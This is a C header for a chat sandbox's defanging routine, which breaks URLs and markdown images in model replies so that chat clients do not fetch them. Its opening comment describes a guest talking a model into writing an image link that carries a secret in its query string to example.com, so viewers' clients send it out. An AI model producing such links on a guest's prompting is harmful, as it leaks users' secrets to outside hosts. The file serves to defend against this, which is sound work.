/* SPDX-License-Identifier: MIT */
/* SPDX-FileCopyrightText: The roundtable-sandbox authors */
/* Takes from a reply what a chat program would fetch by itself, or would hide behind other words: a guest can
 * talk a model into `![](https://example.com/?q=SECRET)`, and whoever looks at the channel sends the secret
 * there. Pure.
 *
 *   https://a.example             <https://a.example>          no preview (CommonMark 0.31, 6.5; Discord too)
 *   [text](https://a.example)     [text] (<https://a.example>) where it leads is seen
 *   ![alt](https://a.example)     ! [alt] (<https://a.example>) nothing is fetched
 *   ![alt][reference]             ! [alt][reference]           a link, no image
 *
 * URLs are those of http, https and ftp. Brackets and blanks are added, and nothing is taken away. Code is
 * left alone where everybody agrees that it is code: a fenced block of three backticks that is closed and has
 * none within, and a span of one to three backticks on one line. Where a backtick before has no partner, chat
 * programs differ about what is code after it, and URLs there are treated as in any text. HTML is not looked
 * at: whoever renders it has to clean it.
 */
#pragma once

#include <glib.h>

/* text is valid UTF-8. Free with g_free(). */
char *sbx_defang (const char *text);

/* For a part of such a text (split-reply.h), which a cut may have robbed of a bracket: a URL that would live
 * again gets hxxp for its scheme. The length stays. */
void sbx_defang_part (char *part);
